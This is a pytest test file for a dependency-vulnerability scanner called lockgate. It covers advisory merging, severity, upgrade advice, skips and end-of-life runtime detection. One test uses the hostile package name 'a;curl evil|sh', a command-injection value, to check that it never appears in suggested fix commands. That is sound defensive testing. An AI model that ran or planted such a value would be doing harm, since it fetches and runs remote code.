"""The dependency scanner: its rules' samples, and what it must never pass over in silence."""

import json
import sqlite3
from contextlib import closing
from dataclasses import replace

import pytest

from lockgate import rules
from lockgate.errors import ConfigurationError, NothingCheckedError
from lockgate.formats import yaml_safe
from lockgate.model import Component, ComponentKind, Family, Finding, Scope, Severity, Skip, SkipKind
from lockgate.scanners import ScanContext, Scanner
from lockgate.scanners.dependencies import SCANNER
from lockgate.store.advisories import AdvisoryStore

RULES = rules.load({Family.DEPENDENCIES}).of(Family.DEPENDENCIES)
SAMPLES = [pytest.param(rule, sample, id=f"{rule.id}-{at}") for rule in RULES for at, sample in enumerate(rule.samples)]
RANGE = [
    {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.5.1"}, {"introduced": "2.0"}, {"fixed": "2.2"}]}
]


def build(folder, advisories, *, exploited=(), epss=""):
    source = folder / "source"
    source.mkdir()
    for at, advisory in enumerate(advisories):
        (source / f"{at}.json").write_text(json.dumps(advisory))
    kev = folder / "kev.json"
    kev.write_text(json.dumps({"vulnerabilities": [{"cveID": name, "dateAdded": "2026-03-01"} for name in exploited]}))
    scores = None
    if epss:
        scores = folder / "epss.csv"
        scores.write_text(epss)
    AdvisoryStore.build([source], folder / "advisories.db", kev=kev, epss=scores)
    return folder / "advisories.db"


def scan(store, components, chosen=RULES, today="2026-11-01"):
    session = SCANNER.start(chosen, ScanContext(salt=b"0" * 16, advisories=store, today=today))
    rows = [row for component in components for row in session.feed(component)]
    rows += session.finish()
    return [r for r in rows if isinstance(r, Finding)], [r for r in rows if isinstance(r, Skip)], session.coverage()


def advisory(name="LG-SAMPLE-2026-0001", package="harbour-forms", **more):
    record = {"id": name, "affected": [{"package": {"ecosystem": "PyPI", "name": package}, "ranges": RANGE}]}
    return {**record, **more}


COMPONENT = Component("PyPI", "harbour-forms", "1.4.2", "requirements.txt", line=3)


@pytest.mark.parametrize(("rule", "sample"), SAMPLES)
def test_every_sample_gets_the_answer_it_states(rule, sample, tmp_path):
    (document,) = yaml_safe.load_all(rules.expand_sample(sample.text).encode())
    store = build(tmp_path, document.get("advisories", [advisory()]), exploited=document.get("exploited", []))
    component = Component(path="lock", **{key: str(value) for key, value in document["component"].items()})
    findings, _, _ = scan(store, [component], today=document.get("today", ""))
    assert (rule.id in {finding.rule for finding in findings}) is sample.fires


def test_the_family_has_a_rule_for_each_kind_of_advisory():
    assert isinstance(SCANNER, Scanner)
    assert {rule.logic["advisories"] for rule in RULES if "advisories" in rule.logic} == {
        "vulnerable", "exploited", "malicious", "unmaintained", "unsound", "update-pending",
    }  # fmt: skip


def test_records_of_one_flaw_are_one_finding_with_every_name(tmp_path):
    store = build(
        tmp_path,
        [
            advisory("PYSEC-2026-1", aliases=["CVE-2026-900001"], summary="Forms run what they are given"),
            advisory("GHSA-aaaa-bbbb-cccc", aliases=["CVE-2026-900001"],
                     severity=[{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}]),
        ],
        epss="#model,2026-01-01\ncve,epss,percentile\nCVE-2026-900001,0.42,0.9\n",
    )  # fmt: skip
    (finding,), skips, coverage = scan(store, [COMPONENT])
    assert skips == [] and coverage.startswith("1 components, 2 advisories")
    assert finding.aliases == ("CVE-2026-900001", "GHSA-aaaa-bbbb-cccc", "PYSEC-2026-1")
    assert finding.severity is Severity.CRITICAL and finding.rule == "dependencies/known-vulnerability"
    assert finding.subject.key == "PyPI\nharbour-forms\nCVE-2026-900001"
    facts = {name: finding.fact(name) for name in ("cvss", "epss", "fixed-in", "fixes-all", "path", "scope")}
    assert facts == {
        "cvss": "9.8", "epss": "0.42000", "fixed-in": "1.5.1", "fixes-all": "1.5.1",
        "path": "harbour-forms@1.4.2", "scope": "runtime",
    }  # fmt: skip
    assert "pip install --upgrade 'harbour-forms>=1.5.1'" in finding.fix.text
    assert finding.location.line == 3
    assert list(finding.facts) == sorted(finding.facts, key=lambda fact: fact.name)


def test_identity_does_not_change_with_the_version_or_the_file(tmp_path):
    store = build(tmp_path, [advisory()])
    findings, _, _ = scan(store, [COMPONENT, replace(COMPONENT, version="1.0", path="other.txt", line=9)])
    assert len(findings) == 2 and len({finding.subject.key for finding in findings}) == 1


def test_the_smallest_upgrade_stays_in_the_major_version_and_one_version_fixes_all(tmp_path):
    second = advisory("LG-SAMPLE-2026-0009")
    second["affected"][0]["ranges"] = [{"type": "ECOSYSTEM", "events": [{"introduced": "1.0"}, {"fixed": "1.7"}]}]
    third = advisory("LG-SAMPLE-2026-0010")
    third["affected"][0]["ranges"] = [{"type": "ECOSYSTEM", "events": [{"introduced": "1.6"}, {"fixed": "1.9"}]}]
    store = build(tmp_path, [advisory(), second, third])
    findings, _, _ = scan(store, [COMPONENT, replace(COMPONENT, version="2.1")])
    assert [(f.fact("version"), f.fact("fixed-in"), f.fact("fixes-all")) for f in findings] == [
        ("1.4.2", "1.5.1", "1.9"), ("1.4.2", "1.7", "1.9"), ("2.1", "2.2", "2.2"),
    ]  # fmt: skip


def test_the_way_a_component_comes_in_is_told(tmp_path):
    store = build(tmp_path, [advisory()])
    deep = replace(COMPONENT, direct=False, via=("harbour@1.0", "site@2.0"), scope=Scope.DEVELOPMENT)
    (finding,), _, _ = scan(store, [deep])
    assert finding.fact("path") == "harbour@1.0 > site@2.0 > harbour-forms@1.4.2"
    assert finding.fact("scope") == "development" and finding.fact("direct") == "false"


def test_a_word_of_the_data_base_counts_where_no_score_is_given(tmp_path):
    store = build(tmp_path, [advisory(database_specific={"severity": "HIGH"})])
    (finding,), _, _ = scan(store, [COMPONENT])
    assert finding.severity is Severity.HIGH and finding.fact("cvss") == ""


def test_without_either_a_vulnerability_is_medium(tmp_path):
    (finding,), _, _ = scan(build(tmp_path, [advisory()]), [COMPONENT])
    assert finding.severity is Severity.MEDIUM


def test_an_exploited_flaw_is_critical_whatever_its_score(tmp_path):
    low = [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:L/I:N/A:N"}]
    store = build(tmp_path, [advisory(aliases=["CVE-2026-900001"], severity=low)], exploited=["CVE-2026-900001"])
    (finding,), _, _ = scan(store, [COMPONENT])
    assert finding.rule == "dependencies/known-exploited" and finding.severity is Severity.CRITICAL
    assert finding.fact("kev") == "2026-03-01" and finding.fact("cvss") == "3.1"


def test_without_a_store_nothing_was_checked(tmp_path):
    for store in (None, tmp_path / "absent.db"):
        with pytest.raises(NothingCheckedError, match="no advisory store"):
            SCANNER.start(RULES, ScanContext(salt=b"0" * 16, advisories=store))


def test_with_an_empty_store_nothing_was_checked(tmp_path):
    store = build(tmp_path, [advisory()])
    with closing(sqlite3.connect(store, isolation_level=None)) as emptied:
        emptied.execute("UPDATE meta SET value = 0 WHERE key = 'advisories'")
    with pytest.raises(NothingCheckedError, match="empty"):
        SCANNER.start(RULES, ScanContext(salt=b"0" * 16, advisories=store))


def test_with_a_file_that_is_no_store_nothing_was_checked(tmp_path):
    (tmp_path / "advisories.db").write_bytes(b"not a data base" * 100)
    with pytest.raises(NothingCheckedError, match="damaged"):
        SCANNER.start(RULES, ScanContext(salt=b"0" * 16, advisories=tmp_path / "advisories.db"))


def test_an_ecosystem_the_store_knows_nothing_about_is_a_skip_and_no_coverage(tmp_path):
    store = build(tmp_path, [advisory()])
    go = [Component("Go", f"example.com/{name}", "1.0.0", "go.mod") for name in "ab"]
    findings, (skip,), coverage = scan(store, go)
    assert findings == [] and coverage == ""
    assert skip.kind is SkipKind.MISSING_TOOL and skip.family == "dependencies"
    assert "nothing about Go: 2 components" in skip.reason


def test_a_version_without_an_order_is_a_skip_and_still_compared_word_by_word(tmp_path):
    listed = advisory("LG-SAMPLE-2026-0011")
    listed["affected"][0]["versions"] = ["nightly build"]
    findings, skips, coverage = scan(build(tmp_path, [listed]), [replace(COMPONENT, version="nightly build")])
    assert len(findings) == 1 and findings[0].fact("fixed-in") == ""
    assert [skip.kind for skip in skips] == [SkipKind.UNRESOLVED] and coverage == ""


def test_a_component_without_a_version_is_left_to_its_reader(tmp_path):
    findings, skips, coverage = scan(build(tmp_path, [advisory()]), [replace(COMPONENT, version="", requirement=">=1")])
    assert (findings, skips, coverage) == ([], [], "")


def test_a_name_that_a_shell_would_read_never_stands_in_a_command(tmp_path):
    name = "a;curl evil|sh"
    hostile = advisory(package=name)
    hostile["affected"][0]["package"]["ecosystem"] = "npm"
    hostile["affected"][0]["ranges"][0]["type"] = "SEMVER"
    (finding,), _, _ = scan(build(tmp_path, [hostile]), [Component("npm", name, "1.0.0", "package-lock.json")])
    assert "npm install" not in finding.fix.text


def test_a_rule_of_the_family_with_other_logic_is_refused(tmp_path):
    store = build(tmp_path, [advisory()])
    for logic in ({"advisories": "everything"}, {"advisories": "vulnerable", "more": 1}):
        with pytest.raises(ConfigurationError):
            SCANNER.start([replace(RULES[0], logic=logic)], ScanContext(salt=b"0" * 16, advisories=store))


def debian(name, fixed="", *, ecosystem="Debian:12", **beside):
    events = [{"introduced": "0"}, *([{"fixed": fixed}] if fixed else [])]
    affected = {
        "package": {"ecosystem": ecosystem, "name": name},
        "ranges": [{"type": "ECOSYSTEM", "events": events}],
        "ecosystem_specific": beside,
    }
    return {"id": f"DEBIAN-CVE-2026-{len(name)}", "affected": [affected]}


LIBSSL = Component(
    "Debian:12", "libssl3", "3.0.15-1", "var/lib/dpkg/status", purl="pkg:deb/debian/libssl3@3.0.15-1?distro=debian-12",
    source="openssl", source_version="3.0.15-1", layer="sha256:a",
)  # fmt: skip


def test_a_package_of_a_distribution_is_compared_by_its_source_and_told_how_to_upgrade(tmp_path):
    (finding,), skips, coverage = scan(build(tmp_path, [debian("openssl", "3.0.16-1")]), [LIBSSL])
    assert finding.fix.text == (
        "Upgrade libssl3 from 3.0.15-1 to the build of openssl 3.0.16-1 or later: "
        "apt-get update && apt-get install --only-upgrade libssl3"
    )
    assert finding.fact("source") == "openssl 3.0.15-1"
    assert finding.fact("layer") == "sha256:a"
    assert skips == []
    assert coverage.startswith("1 components, ")


def test_what_a_distribution_will_not_fix_is_said_in_the_fix(tmp_path):
    (finding,), _, _ = scan(build(tmp_path, [debian("openssl", urgency="end-of-life")]), [LIBSSL])
    assert finding.fact("fix-state") == "end-of-life"
    assert finding.fix.text.startswith("The distribution no longer mends this release")


def test_a_module_that_a_package_brought_is_told_by_advisories_about_the_package(tmp_path):
    store = build(tmp_path, [debian("pyyaml", "1"), advisory(package="pyyaml")])
    owner = "pkg:deb/debian/python3-yaml@6.0-3?arch=amd64&distro=debian-12&upstream=pyyaml"
    foreign = "pkg:deb/debian/vendor-tool@1?arch=amd64&distro=debian-12"
    module = replace(COMPONENT, name="pyyaml")
    findings, skips, coverage = scan(store, [replace(module, owner=owner)])
    assert (findings, skips, coverage) == ([], [], "")
    others = [replace(module, owner=owner), replace(module, owner=foreign, path="b")]
    findings, _, coverage = scan(store, [module, *others])
    assert [one.location.path for one in findings] == ["requirements.txt", "b"]
    assert coverage.startswith("2 components and 1 with the packages that brought them, ")


def test_the_distribution_itself_is_no_package(tmp_path):
    system = Component("", "debian", "12", "etc/os-release", kind=ComponentKind.OPERATING_SYSTEM)
    assert scan(build(tmp_path, [advisory()]), [system]) == ([], [], "")


def test_a_release_without_advisories_is_a_skip(tmp_path):
    _, (skip,), _ = scan(build(tmp_path, [debian("openssl", "1")]), [replace(LIBSSL, ecosystem="Debian:13")])
    assert "nothing about Debian:13" in skip.reason


@pytest.mark.parametrize(
    ("component", "told"),
    [
        (Component("Go", "stdlib", "1.21.3", "app"), "Go 1.21.3 gets no security updates since 2024-08-13."),
        (Component("NuGet", "Microsoft.NETCore.App.Runtime.linux-x64", "6.0.36", "x.deps.json"), ".NET 6.0.36 gets no"),
        (Component("Ubuntu:22.04:LTS", "dotnet-runtime-6.0", "6.0.36-1", "status"), ".NET 6.0.36-1 gets no"),
        (Component("Debian:12", "nodejs", "18.20.4-1nodesource1", "status"), "Node.js 18.20.4-1nodesource1 gets no"),
        (Component("Debian:12", "temurin-20-jdk", "20.0.2.0.0+9-0", "status"), "Java (Temurin) 20 gets no"),
        (Component("Ubuntu:22.04:LTS", "python3.8", "3.8.20-1+jammy1", "status"), "Python 3.8.20-1+jammy1 gets no"),
        (Component("SUSE", "sles", "15.5", "os-release", kind=ComponentKind.OPERATING_SYSTEM), "sles 15.5 gets no"),
        (Component("", "rocky", "8.10", "os-release", kind=ComponentKind.OPERATING_SYSTEM), None),
        (Component("", "sles", "15.9", "os-release", kind=ComponentKind.OPERATING_SYSTEM), None),
        (Component("Go", "stdlib", "1.21", "go.mod", direct=True), None),
        (Component("Go", "stdlib", "1.21.3", "app", owner="pkg:deb/debian/app@1"), None),
        (Component("Debian:12", "nodejs", "18.19.0+dfsg-6~deb12u2", "status"), None),
        (Component("Ubuntu:22.04:LTS", "dotnet-runtime-6.0", "6.0.36-0ubuntu1~22.04.1", "status"), None),
        (Component("Red Hat:enterprise_linux:8", "dotnet-runtime-6.0", "6.0.36-1.el8_10", "rpmdb"), None),
        (Component("Debian:11", "python3.9", "3.9.2-1", "status"), None),
        (Component("PyPI", "python-dateutil", "2.8", "METADATA"), None),
    ],
)
def test_a_runtime_is_past_its_end_as_its_makers_ship_it_and_not_as_a_distribution_mends_it(tmp_path, component, told):
    findings, _, _ = scan(build(tmp_path, [advisory()]), [component])
    assert [one.message.startswith(told or "-") for one in findings] == ([True] if told else [])
